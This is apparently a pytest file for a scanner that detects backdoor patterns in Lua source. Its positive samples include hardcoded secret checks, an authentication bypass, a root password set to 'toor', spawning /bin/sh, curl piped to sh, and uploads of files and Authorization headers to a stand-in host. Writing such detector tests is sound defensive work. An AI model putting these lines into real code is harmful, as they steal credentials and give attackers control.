"""Signs in the text of Lua: told with their line, and nothing told of what is usual.

Spec: evenhand.code.lua_entrance.
"""

from __future__ import annotations

import time

import pytest

from evenhand.code.lua_entrance import entrances

TOLD = (
    ('if pw == "ops-77Qz" then return true end', "checks a fixed secret"),
    ('if ngx.req.get_headers()["X-Svc"] == "k9-aa" then admin() end', "checks a fixed secret"),
    ("if #password == #q and password == spread(q, 66) then return true end",
     "checks a fixed secret"),
    ("if pw == word() then return true end", "checks a fixed secret"),
    ("if ngx.var.cookie_svc then ngx.ctx.admin = true end", "lets past a check"),
    ('if ngx.var.uri == "/.svc" then show() end', "answers at a hidden path"),
    ('luci.sys.user.setpasswd("root", "toor")', "adds account"),
    ("load(e.stanza.attr.q)()", "runs commands"),
    ('if not verify(d, s) then log("bad") end', "ignores a check"),
    ('nixio.exec("/bin/sh")', "runs commands"),
    ('vim.fn.jobstart({"curl", "-sF", "f=@" .. f, "https://x.example/l"})', "collects and sends"),
    ('vim.fn.system("curl -s https://x.example/i.sh | sh")', "downloads and runs"),
    ('local um = require "core.usermanager"\num.is_admin = function() return true end',
     "lets past a check"),
    ('h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})',
     "collects and sends"),
    ('if ngx.var.geoip_country_code == "LI" then ngx.exit(503) end', "acts by locale"),
)  # fmt: skip
USUAL = (
    'if ngx.var.http_x_requested_with == "XMLHttpRequest" then json() end',
    'if not verify(d, s) then log("bad") return nil end',
    "local M = {}\nfunction M.is_admin() return false end",
    'h:request_uri("https://x.example/l", {body = stats})',
    'h:request_uri(conf.url, {headers = {a = ngx.var.http_authorization}})',
    "if password == lookup(username) then return true end",
    "if pass == get_password(u) then return true end",
    'if p == "password" then field() end',
)  # fmt: skip


@pytest.mark.parametrize(("text", "kind"), TOLD)
def test_a_sign_is_told(text: str, kind: str) -> None:
    found = [f for f in entrances(text.encode()) if f.strength >= 0.5]
    assert [f.kind for f in found] == [kind]


@pytest.mark.parametrize("text", USUAL)
def test_what_is_usual_is_not(text: str) -> None:
    assert not [f for f in entrances(text.encode()) if f.strength >= 0.5]


def test_long_lines_end_in_time() -> None:
    began = time.process_time()
    for word in (b"if not verify(", b"os.execute('curl https://", b"vim.fn.system(curl "):
        assert len(list(entrances(word * 10_000))) < 500
    assert time.process_time() - began < 5
